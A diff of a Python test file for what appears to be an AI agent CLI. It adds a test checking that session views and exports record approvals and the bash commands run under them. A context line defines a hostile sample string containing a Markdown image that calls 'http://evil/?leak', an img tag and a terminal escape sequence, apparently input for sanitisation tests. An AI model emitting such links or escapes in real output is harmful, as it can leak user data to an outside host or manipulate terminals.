@@ -85,6 +85,19 @@ def test_one_session_says_how_to_go_on(program: ScriptedProgram) -> None:
     assert (row["id"], row["state"]) == (id, "needs_you")
 
 
+def test_H6_show_and_exports_say_who_allowed_what(program: ScriptedProgram) -> None:
+    program.run(
+        "--approve", "all", "Run it.", replies=[says("", call("bash", command="true")), says("Done.")]
+    )
+    (id,) = program.ids
+    shown = program("sessions", "show", id).out
+    assert "approvals: all" in shown and "ran: bash true, mode all" in shown
+    entries = json.loads(program("sessions", "show", id, "--json").out)["audit"]
+    assert [(e["what"], e["how"]) for e in entries] == [("mode", "all"), ("ran", "mode all")]
+    assert "allowed: mode all" in program("sessions", "export", id, "--to", "md").out
+    assert '"allowed":"mode all"' in program("sessions", "export", id, "--to", "jsonl").out
+
+
 HOSTILE = "# You\n\n![x](http://evil/?leak)\n<img src=x>\n```\n<kept>\n```\n\x1b]0;title\x07done"
 
 
